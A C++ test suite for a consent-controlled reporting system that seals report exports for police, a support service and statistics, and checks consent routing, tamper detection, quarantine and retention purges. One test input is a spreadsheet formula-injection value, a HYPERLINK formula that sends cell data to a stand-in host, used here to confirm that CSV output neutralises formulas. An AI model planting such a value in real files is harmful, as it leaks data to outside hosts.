// Consent decides who receives a report, end to end through the real programs: kiosk store →
// hrc-sync → hrc-central over TLS on loopback → sealed export per recipient → open-export on the
// recipient's side. Each opened export is checked field by field against the consent table in code.
//
// [SECTION] Helpers
// [SECTION] Every combination of the four consents
// [SECTION] Central refuses invalid reports with a signed reason
#include <fstream>
#include <set>

#include <catch2/catch.hpp>

#include "hrc/recipients.h"
#include "hrc/sqlite_util.h"

#include "deployment.h"
#include "recipient_check.h"

using hrc::Recipient;
using hrc_test::Deployment;
using hrc_test::TempDir;
namespace fs = std::filesystem;

namespace {

//-------------------------------------------------------------------------------------------------
// [SECTION] Helpers
//-------------------------------------------------------------------------------------------------

hrc_test::RunResult central(Deployment& d, std::vector<std::string> args) {
    args.insert(args.begin(), HRC_CENTRAL_EXE);
    return hrc_test::run_command(args, d.log);
}

void require_ok(Deployment& d, const hrc_test::RunResult& r) {
    INFO(r.out << "\nlog:\n" << hrc_test::read_file(d.log));
    REQUIRE(r.code == 0);
}

// Exports for `who` (sealed), opens it with the recipient's key and central.pub; returns the text.
std::string export_and_open(Deployment& d, const fs::path& keys, const std::string& who,
                            const std::string& format, const std::string& name) {
    const fs::path sealed = d.dir / (name + ".hrcx");
    const fs::path opened = d.dir / (name + "." + format);
    require_ok(d, central(d, {"export", "--dir", d.central_dir.string(), "--for", who, "--format",
                              format, "--since-last", "--output", sealed.string(), "--operator",
                              "test.operator"}));
    const std::string bytes = hrc_test::read_file(sealed);
    CHECK(bytes.substr(0, 4) == "HRCX");
    require_ok(d,
               central(d, {"open-export", sealed.string(), "--key",
                           (keys / (who + ".key")).string(), "--central",
                           (d.central_dir / "central.pub").string(), "--output", opened.string()}));
    return hrc_test::read_file(opened);
}

// Parses a CSV file with Python's csv module; returns the rows (header first).
std::vector<std::vector<std::string>> python_csv(Deployment& d, const fs::path& file) {
    const fs::path script = d.dir / "csv_to_json.py";
    hrc_test::write_file(script, "import csv, json, sys\n"
                                 "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
                                 "    print(json.dumps(list(csv.reader(f, strict=True))))\n");
    const auto r =
        hrc_test::run_command({"/usr/bin/python3", script.string(), file.string()}, d.log);
    INFO(hrc_test::read_file(d.log));
    REQUIRE(r.code == 0);
    return nlohmann::json::parse(r.out).get<std::vector<std::vector<std::string>>>();
}

std::optional<hrc::Consent> consent(int state, const char* wording) {
    if (state == 0) return std::nullopt;
    return hrc::Consent{state == 1 ? hrc::ConsentDecision::given : hrc::ConsentDecision::refused,
                        wording};
}

} // namespace

//-------------------------------------------------------------------------------------------------
// [SECTION] Every combination of the four consents
//-------------------------------------------------------------------------------------------------

TEST_CASE("recipients: every consent combination reaches each recipient exactly as the table says, "
          "sealed",
          "[recipients]") {
    Deployment d;
    d.start_central();
    const fs::path keys = d.dir / "recipient-machine";
    fs::create_directories(keys);
    for (const std::string who : {"police", "victim-first", "statistics"}) {
        require_ok(d, central(d, {"recipient", "keygen", "--name", who, "--out", keys.string()}));
        require_ok(d, central(d, {"recipient", "add", who, "--dir", d.central_dir.string(), "--key",
                                  (keys / (who + ".pub")).string()}));
    }

    // 3^4 = 81 reports: each consent absent, given or refused. The description of every report the
    // police may not have carries a canary; one report the police may have is a formula.
    {
        const hrc::Config c = d.config();
        hrc::Store store = hrc::open_kiosk_store(c);
        const hrc::KioskKeys kiosk = hrc::read_kiosk_secret_key(c.kiosk.signing_key);
        const hrc::CentralIdentity central_id =
            hrc::read_central_identity(c.central.public_identity);
        int n = 0;
        for (int police = 0; police < 3; ++police)
            for (int contact = 0; contact < 3; ++contact)
                for (int support = 0; support < 3; ++support)
                    for (int stats = 0; stats < 3; ++stats) {
                        hrc::Report r = hrc_test::fresh_report();
                        r.consents.share_with_police = consent(police, "share-police/1");
                        r.consents.police_may_contact = consent(contact, "police-contact/1");
                        r.consents.support_referral = consent(support, "victim-first/1");
                        r.consents.anonymous_statistics = consent(stats, "statistics/1");
                        r.description = police == 1 ? "Report " + std::to_string(n)
                                                    : "CANARY-NOT-FOR-POLICE-" + std::to_string(n);
                        if (police == 1 && contact == 1 && support == 0 && stats == 0)
                            r.description = "=HYPERLINK(\"http://x/?\"&A1,\"Click\")";
                        const auto out = hrc::submit_report(store, r, kiosk, central_id,
                                                            {2025, 3, 27}, hrc::unix_now());
                        INFO(n);
                        REQUIRE(out.stored());
                        d.submitted[r.report_id] = hrc::to_json(r);
                        ++n;
                    }
    }
    const auto sync = d.sync_once();
    INFO(sync.out << hrc_test::read_file(d.log));
    REQUIRE(sync.code == 0);
    REQUIRE(d.pending() == 0);

    SECTION("JSON: each recipient's export holds exactly the table's reports and fields") {
        for (const auto& [who, recipient] : {std::pair{"police", Recipient::police},
                                             {"victim-first", Recipient::victim_first},
                                             {"statistics", Recipient::statistics}}) {
            INFO(who);
            const std::string text = export_and_open(d, keys, who, "json", std::string(who) + "-1");
            if (recipient == Recipient::police) CHECK(text.find("CANARY") == std::string::npos);
            if (recipient != Recipient::police && recipient != Recipient::team)
                CHECK(text.find("Report ") == std::string::npos);
            std::vector<nlohmann::json> rows =
                nlohmann::json::parse(text).get<std::vector<nlohmann::json>>();
            // Police and Victim First rows carry the report id / reference; statistics rows carry
            // neither, so each is matched to the one report it can be.
            std::vector<std::string> unmatched;
            for (const auto& [id, full] : d.submitted)
                unmatched.push_back(id);
            std::size_t expected_rows = 0;
            for (const auto& [id, full] : d.submitted) {
                const auto gate =
                    "/consents/" + std::string(hrc::gate_consent(recipient)) + "/decision";
                if (full.contains(nlohmann::json::json_pointer(gate)) &&
                    full.at(nlohmann::json::json_pointer(gate)) == "given")
                    ++expected_rows;
            }
            CHECK(rows.size() == expected_rows);
            for (const auto& row : rows) {
                bool matched = false;
                for (auto it = unmatched.begin(); it != unmatched.end() && !matched; ++it) {
                    if (hrc_test::differences_from_table(recipient, d.submitted[*it], &row)
                            .empty()) {
                        unmatched.erase(it);
                        matched = true;
                        break;
                    }
                }
                INFO(row.dump());
                CHECK(matched);
            }
            // Every report left unmatched is one this recipient must not have.
            for (const auto& id : unmatched)
                CHECK(
                    hrc_test::differences_from_table(recipient, d.submitted[id], nullptr).empty());
        }
        // --since-last again: nothing new.
        for (const std::string who : {"police", "victim-first", "statistics"})
            CHECK(nlohmann::json::parse(export_and_open(d, keys, who, "json", who + "-2")).empty());

        // The records say which ids went where; the audit chain verifies.
        const auto list =
            central(d, {"exports", "--dir", d.central_dir.string(), "--for", "police", "--json"});
        require_ok(d, list);
        const auto exports = nlohmann::json::parse(list.out);
        REQUIRE(exports.size() == 2);
        CHECK(exports[1]["reports"] == 27);
        CHECK(exports[1]["operator"] == "test.operator");
        CHECK(exports[0]["reports"] == 0);
        require_ok(d, central(d, {"verify", "--dir", d.central_dir.string()}));
    }

    SECTION("CSV: police columns parse with Python's csv module, formulas inert, contact only with "
            "consent") {
        const std::string text = export_and_open(d, keys, "police", "csv", "police-csv");
        CHECK(text.find("CANARY") == std::string::npos);
        const fs::path file = d.dir / "police-csv.csv";
        const auto rows = python_csv(d, file);
        REQUIRE(rows.size() == 28); // header + 27 reports with share_with_police given
        CHECK(rows[0] == hrc::recipient_csv_columns(Recipient::police));
        const auto& columns = rows[0];
        auto col = [&](const std::string& name) {
            return std::size_t(std::find(columns.begin(), columns.end(), name) - columns.begin());
        };
        int formulas = 0;
        for (std::size_t i = 1; i < rows.size(); ++i) {
            const auto& row = rows[i];
            REQUIRE(row.size() == columns.size());
            const nlohmann::json& full = d.submitted.at(row[col("report_id")]);
            const auto decoded = hrc::decode_report(full);
            REQUIRE(decoded.report);
            const auto view = hrc::recipient_view(Recipient::police, *decoded.report, 0);
            REQUIRE(view);
            // Every allowed field round-trips: the parsed cell is the cell central built, with a
            // leading ' only where the text would have been a formula.
            const auto expected = hrc::recipient_csv_cells(Recipient::police, *view);
            for (std::size_t c = 0; c < columns.size(); ++c) {
                if (columns[c] == "received_at")
                    continue; // set by central, not in the submitted report
                std::string want = expected[c];
                if (!want.empty() && std::string("=+-@").find(want[0]) != std::string::npos)
                    want.insert(0, "'");
                INFO(columns[c]);
                CHECK(row[c] == want);
            }
            if (row[col("description")].rfind("'=HYPERLINK", 0) == 0) ++formulas;
            if (row[col("contact_allowed")] == "no") {
                CHECK(row[col("name")].empty());
                CHECK(row[col("phone")].empty());
                CHECK(row[col("email")].empty());
            } else {
                CHECK(row[col("phone")] == "0116 454 1234");
            }
            CHECK(row[col("district_ons_code")] == "E06000016");
            CHECK(row[col("postcode")] == "LE4 5AT");
        }
        CHECK(formulas == 1);
    }

    SECTION("a sealed export opens only with its recipient's key, and any change is refused") {
        const fs::path sealed = d.dir / "police-seal.hrcx";
        require_ok(d, central(d, {"export", "--dir", d.central_dir.string(), "--for", "police",
                                  "--from", "1970-01-01", "--output", sealed.string()}));
        const auto wrong_key = central(d, {"open-export", sealed.string(), "--key",
                                           (keys / "victim-first.key").string(), "--output",
                                           (d.dir / "wrong.json").string()});
        CHECK(wrong_key.code == 11);
        CHECK_FALSE(fs::exists(d.dir / "wrong.json"));
        std::string bytes = hrc_test::read_file(sealed);
        for (std::size_t at : {std::size_t{5}, bytes.size() / 2, bytes.size() - 1}) {
            std::string changed = bytes;
            changed[at] = static_cast<char>(changed[at] ^ 0x01);
            const fs::path tampered = d.dir / ("tampered-" + std::to_string(at) + ".hrcx");
            hrc_test::write_file(tampered, changed);
            const auto r = central(d, {"open-export", tampered.string(), "--key",
                                       (keys / "police.key").string(), "--central",
                                       (d.central_dir / "central.pub").string(), "--output",
                                       (d.dir / "tampered.json").string()});
            INFO("flipped byte " << at);
            CHECK(r.code == 11);
            CHECK_FALSE(fs::exists(d.dir / "tampered.json"));
        }
        // Another central's signature is refused too.
        require_ok(
            d, hrc_test::run_command(
                   {HRC_CENTRAL_EXE, "init", "--dir", (d.dir / "other-central").string()}, d.log));
        const auto other =
            central(d, {"open-export", sealed.string(), "--key", (keys / "police.key").string(),
                        "--central", (d.dir / "other-central" / "central.pub").string(), "--output",
                        (d.dir / "other.json").string()});
        CHECK(other.code == 11);
        require_ok(
            d, central(d, {"open-export", sealed.string(), "--key", (keys / "police.key").string(),
                           "--central", (d.central_dir / "central.pub").string(), "--output",
                           (d.dir / "right.json").string()}));
        CHECK(nlohmann::json::parse(hrc_test::read_file(d.dir / "right.json")).size() == 27);
        // A plaintext export needs --plaintext; without a registered key there is no sealed export.
        require_ok(d,
                   central(d, {"recipient", "remove", "police", "--dir", d.central_dir.string()}));
        const auto no_key =
            central(d, {"export", "--dir", d.central_dir.string(), "--for", "police",
                        "--since-last", "--output", (d.dir / "nokey.hrcx").string()});
        CHECK(no_key.code == 4);
    }

    SECTION("a changed audit entry is found by verify") {
        require_ok(d, central(d, {"export", "--dir", d.central_dir.string(), "--for", "statistics",
                                  "--since-last", "--output", (d.dir / "s.hrcx").string()}));
        require_ok(d, central(d, {"verify", "--dir", d.central_dir.string()}));
        {
            sqlite3* db = hrc::sql::open_encrypted(
                d.central_dir / "central.db", hrc::read_db_key(d.central_dir / "db.key"), 5000, "");
            // One byte of one entry's detail: "statistics" -> "statisticS".
            char* error = nullptr;
            const int rc =
                sqlite3_exec(db,
                             "UPDATE audit SET detail = replace(detail, '\"statistics\"', "
                             "'\"statisticS\"') WHERE event = 'export'",
                             nullptr, nullptr, &error);
            sqlite3_free(error);
            CHECK(rc == SQLITE_OK);
            CHECK(sqlite3_changes(db) == 1);
            sqlite3_close(db);
        }
        const auto r = central(d, {"verify", "--dir", d.central_dir.string()});
        CHECK(r.code == 7);
        CHECK_THAT(r.out, Catch::Matchers::Contains("was changed after it was written"));
    }
}

//-------------------------------------------------------------------------------------------------
// [SECTION] Central refuses invalid reports with a signed reason
//-------------------------------------------------------------------------------------------------

TEST_CASE("recipients: central refuses an invalid report from an enrolled kiosk with a signed "
          "reason, nothing of it is stored",
          "[recipients]") {
    Deployment d;
    d.start_central();
    d.submit(1); // one valid report
    // Reports the kiosk's own validation would never let through, sealed and signed by the real
    // kiosk key and put in its outbox directly.
    struct Bad {
        std::string name;
        std::function<void(hrc::Report&)> spoil;
        std::string reason;
    };
    const std::vector<Bad> bad = {
        {"5 MiB description",
         [](hrc::Report& r) { r.description = std::string(5 * 1024 * 1024, 'x'); }, "/description"},
        {"no role", [](hrc::Report& r) { r.role.reset(); }, "/role"},
        {"bad reference", [](hrc::Report& r) { r.reference = "NOT-A-REF"; }, "/reference"},
        {"staff mode without staff id",
         [](hrc::Report& r) {
             r.mode = hrc::Mode::staff_assisted;
             r.staff_id.reset();
         },
         "/staff_id"},
        {"another centre", [](hrc::Report& r) { r.centre_id = "somewhere-else"; },
         "another centre"},
    };
    std::map<std::string, std::string> expected_reason;
    {
        const hrc::Config c = d.config();
        hrc::Store store = hrc::open_kiosk_store(c);
        const hrc::KioskKeys kiosk = hrc::read_kiosk_secret_key(c.kiosk.signing_key);
        const hrc::CentralIdentity central_id =
            hrc::read_central_identity(c.central.public_identity);
        for (const Bad& b : bad) {
            hrc::Report r = hrc_test::fresh_report();
            r.report_id = hrc::new_report_id();
            r.reference = "HRC-7K3M-Q9TX";
            r.created_at = hrc::format_utc(hrc::unix_now());
            r.kiosk_id = store.kiosk().kiosk_id;
            r.centre_id = store.kiosk().centre_id;
            b.spoil(r);
            hrc::NewOutboxItem item;
            item.report_id = r.report_id;
            item.reference = "HRC-BAD" + std::to_string(expected_reason.size());
            item.language = r.language;
            item.mode = std::string(hrc::to_string(r.mode));
            item.created_at = hrc::unix_now();
            item.key_id = central_id.sealing_key_id;
            item.sealed = hrc::seal(hrc::to_json_text(r), r.report_id, r.kiosk_id, r.schema_version,
                                    central_id, kiosk);
            store.insert(item, hrc::unix_now());
            expected_reason[r.report_id] = b.reason;
        }
    }
    d.sync_once();
    const auto status = d.status();
    CHECK(status.counts.acked == 1);
    CHECK(status.counts.quarantined == static_cast<int>(bad.size()));
    const auto entries = hrc::open_kiosk_store(d.config()).list();
    for (const auto& [id, reason] : expected_reason) {
        const auto e = std::find_if(entries.begin(), entries.end(),
                                    [&](const hrc::OutboxEntry& x) { return x.report_id == id; });
        REQUIRE(e != entries.end());
        INFO(e->last_error);
        CHECK(e->state == hrc::OutboxState::quarantined);
        CHECK_THAT(e->last_error, Catch::Matchers::Contains(reason));
        CHECK(e->last_error.find("xxxx") == std::string::npos); // the reason never quotes content
    }
    // Staff see it: hrc-admin status warns, list names the reasons.
    const auto admin_status = hrc_test::run_command(
        {HRC_ADMIN_EXE, "--config", (d.kiosk_dir / "hrc.toml").string(), "status"}, d.log);
    CHECK_THAT(admin_status.out, Catch::Matchers::Contains(std::to_string(bad.size()) +
                                                           " report(s) were refused by central"));
    const auto admin_list = hrc_test::run_command(
        {HRC_ADMIN_EXE, "--config", (d.kiosk_dir / "hrc.toml").string(), "list"}, d.log);
    CHECK_THAT(admin_list.out, Catch::Matchers::Contains("/staff_id"));
    // Central holds only the valid one.
    CHECK(d.exported().size() == 1);

    // Staff can send them again once the cause is fixed; central's signed word decides again.
    const std::string cfg = (d.kiosk_dir / "hrc.toml").string();
    CHECK(hrc_test::run_command({HRC_ADMIN_EXE, "--config", cfg, "requeue"}, d.log).code == 2);
    const auto requeued =
        hrc_test::run_command({HRC_ADMIN_EXE, "--config", cfg, "requeue", "--all"}, d.log);
    CHECK(requeued.code == 0);
    CHECK_THAT(requeued.out, Catch::Matchers::Contains("Put " + std::to_string(bad.size()) +
                                                       " quarantined report(s) back"));
    CHECK(d.status().counts.queued == static_cast<int>(bad.size()));
    d.sync_once();
    CHECK(d.status().counts.quarantined == static_cast<int>(bad.size()));
    CHECK(d.exported().size() == 1);
}

//-------------------------------------------------------------------------------------------------
// [SECTION] Retention at central
//-------------------------------------------------------------------------------------------------

TEST_CASE("recipients: purge removes reports past retention, keeps their ids, and a late re-send "
          "is still a duplicate",
          "[recipients][retention]") {
    Deployment d;
    d.start_central();
    d.submit(5);
    // The sealed bytes as the kiosk sent them, to send them again after central has purged them.
    std::vector<std::pair<hrc::Bytes, hrc::Bytes>> sealed;
    {
        hrc::Store store = hrc::open_kiosk_store(d.config());
        hrc::sql::Statement st(store.handle(),
                               "SELECT s.sealed, s.signature FROM outbox o JOIN outbox_sealed s ON "
                               "s.id = o.id ORDER BY o.report_id",
                               "test");
        while (st.step())
            sealed.emplace_back(st.blob(0), st.blob(1));
    }
    REQUIRE(sealed.size() == 5);
    REQUIRE(d.sync_once().code == 0);
    REQUIRE(d.exported().size() == 5);

    hrc_test::write_file(d.central_dir / "central.toml",
                         "[retention]\nreports_days = 365\nexport_records_days = 365\n");
    const auto dry = central(
        d, {"purge", "--dir", d.central_dir.string(), "--dry-run", "--as-of", "2099-01-01"});
    require_ok(d, dry);
    CHECK_THAT(dry.out, Catch::Matchers::StartsWith("5 report(s)"));
    CHECK(d.exported().size() == 5); // a dry run changes nothing
    const auto now = central(d, {"purge", "--dir", d.central_dir.string()});
    require_ok(d, now);
    CHECK_THAT(now.out, Catch::Matchers::StartsWith("Purged 0 report(s)"));
    require_ok(d, central(d, {"purge", "--dir", d.central_dir.string(), "--as-of", "2099-01-01",
                              "--operator", "dpo"}));
    CHECK(d.exported().empty());

    {
        sqlite3* db = hrc::sql::open_encrypted(
            d.central_dir / "central.db", hrc::read_db_key(d.central_dir / "db.key"), 5000, "");
        hrc::sql::Statement kept(db, "SELECT count(*) FROM purged_reports", "test");
        REQUIRE(kept.step());
        CHECK(kept.integer(0) == 5);
        // Nothing but purge may delete a report, and purged ids are kept forever.
        CHECK(sqlite3_exec(db, "DELETE FROM purged_reports", nullptr, nullptr, nullptr) !=
              SQLITE_OK);
        sqlite3_close(db);
    }
    require_ok(d, central(d, {"verify", "--dir", d.central_dir.string()}));
    const auto audit_check = central(d, {"verify", "--dir", d.central_dir.string(), "--json"});
    CHECK(nlohmann::json::parse(audit_check.out)["audit_entries"].get<int>() >= 2);

    // The kiosk sends the same sealed reports again (as after a restore from backup): central
    // still knows them, so they are duplicates, not new reports.
    {
        hrc::Store store = hrc::open_kiosk_store(d.config());
        int i = 0;
        hrc::sql::Statement ids(store.handle(), "SELECT report_id FROM outbox ORDER BY report_id",
                                "test");
        std::vector<std::string> report_ids;
        while (ids.step())
            report_ids.push_back(ids.text(0));
        for (const auto& id : report_ids) {
            hrc::sql::Statement(store.handle(),
                                "UPDATE outbox SET state = 'queued', acknowledgement = NULL,"
                                " acked_at = 0 WHERE report_id = ?1",
                                "test")
                .bind(1, id)
                .run();
            hrc::sql::Statement(store.handle(),
                                "INSERT INTO outbox_sealed (id, sealed, signature) SELECT id, ?2, "
                                "?3 FROM outbox WHERE report_id = ?1",
                                "test")
                .bind(1, id)
                .bind(2, sealed[static_cast<std::size_t>(i)].first)
                .bind(3, sealed[static_cast<std::size_t>(i)].second)
                .run();
            ++i;
        }
    }
    REQUIRE(d.sync_once().code == 0);
    CHECK_THAT(hrc_test::read_file(d.log), Catch::Matchers::Contains("accepted=0 duplicate=5"));
    CHECK(d.exported().empty());
    CHECK(d.pending() == 0);
}

TEST_CASE("recipients: a central.toml with an unknown key or a retention shorter than its exports "
          "is refused",
          "[recipients][retention]") {
    Deployment d;
    hrc_test::write_file(d.central_dir / "central.toml", "[retention]\nreport_days = 365\n");
    const auto unknown = central(d, {"purge", "--dir", d.central_dir.string(), "--dry-run"});
    CHECK(unknown.code == 3);
    hrc_test::write_file(d.central_dir / "central.toml",
                         "[retention]\nreports_days = 800\nexport_records_days = 400\n");
    CHECK(central(d, {"purge", "--dir", d.central_dir.string(), "--dry-run"}).code == 3);
    hrc_test::write_file(d.central_dir / "central.toml", "[retention]\nreports_days = 3\n");
    CHECK(central(d, {"purge", "--dir", d.central_dir.string(), "--dry-run"}).code == 3);
}
